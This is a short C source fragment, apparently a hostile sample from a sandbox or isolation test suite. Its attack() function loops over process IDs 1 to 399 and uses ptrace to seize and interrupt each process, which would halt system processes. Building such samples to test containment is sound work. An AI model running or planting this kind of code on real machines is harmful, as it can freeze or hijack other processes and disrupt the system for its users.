/* Attaches to all processes of small numbers as a debugger. */
#define _GNU_SOURCE
#include <sys/ptrace.h>
#include "hostile.h"

static void attack(unsigned char choice) {
    (void)choice;
    for (int pid = 1; pid < 400; pid++) {
        ptrace(PTRACE_SEIZE, pid, 0, 0);
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    }
}
